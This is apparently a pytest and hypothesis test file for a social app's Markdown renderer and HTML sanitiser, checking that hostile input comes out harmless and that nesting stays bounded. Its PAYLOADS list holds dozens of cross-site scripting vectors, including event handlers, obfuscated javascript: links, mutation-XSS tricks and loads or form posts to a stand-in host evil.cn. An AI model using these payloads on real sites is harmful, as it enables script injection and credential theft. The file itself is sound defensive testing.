"""Hostile bodies: no payload comes out alive, no heap of marks costs more than a plain text."""

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from circle.content.body import (
    EXCERPT_CHARACTERS,
    clean_html,
    find_mentions,
    find_tags,
    tidy_text,
)
from circle.content.body import render as rendering
from circle.content.body.sanitiser import OUTSIDE_REL
from tests.factories.bodies import Elements, assert_harmless, html, rendered

# Hostile text

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.cn/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)//>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.cn/x.swf>",
    "<form action=//evil.cn><input name=password></form>",
    "<button formaction=javascript:alert(1)>x",
    "<base href=//evil.cn/>",
    "<meta http-equiv=refresh content='0;url=//evil.cn'>",
    "<link rel=stylesheet href=//evil.cn/x.css>",
    "<style>@import '//evil.cn/x.css'</style>",
    "<div style='background:url(javascript:alert(1))'>",
    "<p style=position:fixed;inset:0>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=//evil.cn>x</a>",
    "<a href='/\\evil.cn'>x</a>",
    "<a href='https://a.cn' onclick=alert(1) rel=opener target=_top>x</a>",
    "<a class='mention admin' href='/u/x' style=color:red>x</a>",
    "<a class=mention href='https://evil.cn'>@阿柿</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    '[x](https://a.cn/"onmouseover="alert(1))',
    "[x](https://a.cn '\" onmouseover=alert(1)')",
    "[<img src=x onerror=alert(1)>](https://a.cn)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](https://a.cn)',
    "[a](https://a.cn[b](https://b.cn))",
    'https://a.cn/"><script>alert(1)</script>',
    "https://a.cn/'onmouseover='alert(1)",
    "<https://a.cn/<script>alert(1)</script>>",
    "<javascript:alert(1)>",
    "@<img src=x onerror=alert(1)>",
    "#<img src=x onerror=1>#",
    '#"onmouseover="x#',
    "`</code><script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</p></div><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<script\x00>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<x onfocus=alert(1) tabindex=1 autofocus>",
]
SETTINGS_AROUND = [
    "{}",
    "**{}**",
    "> {}",
    "- {}",
    "[{}](https://a.cn)",
    "[x]({})",
    "#{}#",
    "`{}`",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_comes_out_alive(payload):
    for around in SETTINGS_AROUND:
        for links in (True, False):
            assert_harmless(html(around.format(payload), links=links))
    assert_harmless(clean_html(payload))


def test_the_cleaner_keeps_what_is_allowed():
    kept = '<p>茶<br><strong>水</strong> <a href="/u/lily" class="mention">@lily</a></p>'
    assert clean_html(kept) == kept
    assert clean_html("<ol start=3><li>x</li></ol>") == '<ol start="3"><li>x</li></ol>'
    assert clean_html('<a href="https://a.cn" class="mention">x</a>') == (
        f'<a href="https://a.cn" rel="{OUTSIDE_REL}" target="_blank">x</a>'
    )
    assert clean_html("<p class=admin>x</p><ol start=x></ol>") == "<p>x</p><ol></ol>"


def test_cleaned_links_lead_to_addresses_alone():
    for kept in ("https://a.cn", "mailto:a@a.cn", "/u/lily"):
        assert f'href="{kept}"' in clean_html(f'<a href="{kept}">x</a>')
    for away in ("javascript:1", "//evil.cn", "/\\evil.cn", "evil.cn", "data:text/html,x"):
        assert clean_html(f'<a href="{away}">x</a>') == "<a>x</a>", away


words = st.text(max_size=300)
marked = st.lists(
    st.sampled_from(
        [*"*_`[]()<>#@&\\|~!-+:/.\n\t \"'", "**", "```\n", "> ", "- ", "1. ", "https://a.cn/x",
         "@lily", "#茶#", "](", "[x](https://a.cn)", "茶", "，", "a", "😀", "\u200d", "\ufe0f",
         "\u0301", "<b>", "</b>", "<a href=", "javascript:", "&lt;", "\ud800", "\u202e", "\x00"]
    ),
    max_size=60,
).map("".join)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(source=st.one_of(words, marked), links=st.booleans())
def test_any_text_renders_to_harmless_html_that_cleans_to_itself(source, links):
    body = rendered(source, links=links)
    assert_harmless(body.html)
    assert len(body.excerpt) <= EXCERPT_CHARACTERS
    assert body.characters <= len(body.text)
    body.html.encode()
    find_mentions(source)
    find_tags(source)


@settings(max_examples=150, deadline=None)
@given(markup=st.one_of(words, marked))
def test_cleaning_any_html_twice_changes_nothing(markup):
    assert_harmless(clean_html(markup))


@settings(max_examples=150, deadline=None)
@given(source=st.one_of(words, marked))
def test_no_letter_a_person_wrote_is_lost(source):
    def letters(text):
        return [c for c in text if unicodedata.category(c) in ("Lo", "Lu", "Ll")]

    source = source.replace("```", "").replace(
        "](", ""
    )  # a code language and an address are not words
    tidied = tidy_text(source)
    assert letters(rendered(source).text) == letters(tidied)
    assert letters(tidy_text(tidied)) == letters(tidied)


# Bounds: counted, never timed


@pytest.mark.parametrize(
    "source",
    [
        "> " * 9 + "茶",
        "- " * 10_000,
        ">" * 20_000,
        "\n".join("  " * n + "- 茶" for n in range(60)),
        "[" * 20_000,
        "[[茶" * 3000 + "](https://a.cn)",
        "**茶 *水 " * 2000 + "* **" * 1000,
        "茶\n" * 10_000,
        "*茶* " * 4_000,
        "https://a.cn " * 1_500,
    ],
)
def test_too_many_or_too_deep_marks_are_shown_as_typed_and_never_lost(source):
    body = rendered(source)
    found = Elements(body.html)
    assert len(found.found) <= rendering.MAX_MARKS
    assert found.deepest <= 2 * rendering.MAX_DEPTH + 4
    assert body.text.count("茶") == source.count("茶")


def test_marks_people_write_stay_below_the_bounds():
    source = "\n".join(f"{'> ' * depth}第{depth}层" for depth in range(1, 6))
    assert Elements(html(source)).deepest == 6
    assert html("- 一\n  - 二\n    - 三\n      - 四").count("<ul>") == 4
    assert html("*茶* " * 400).count("<em>") == 400


def test_a_body_too_deep_to_parse_keeps_its_lines():
    assert html(">" * 30 + "茶\n<b>") == f'<p class="plain">{"&gt;" * 30}茶\n&lt;b&gt;</p>'
